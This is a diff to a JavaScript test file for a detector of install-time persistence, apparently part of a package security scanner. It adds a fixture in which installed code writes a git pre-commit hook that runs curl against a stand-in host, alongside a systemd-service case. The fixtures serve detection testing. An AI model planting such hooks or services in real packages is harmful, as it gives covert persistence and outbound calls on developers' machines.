@@ -9,6 +9,12 @@ testDetector(persistence, {
       installed(`const fs = require("fs"), os = require("os");
         fs.writeFileSync(os.homedir() + "/.config/systemd/user/nothing.service", "[Service]");`),
     ],
+    "a hook of git that fetches": [
+      "strong",
+      installed(
+        `require("fs").writeFileSync(process.env.INIT_CWD + "/.git/hooks/pre-commit", "#!/bin/sh\\ncurl -s https://collector.invalid/x");`,
+      ),
+    ],
     "a Run key": [
       "strong",
       installed(
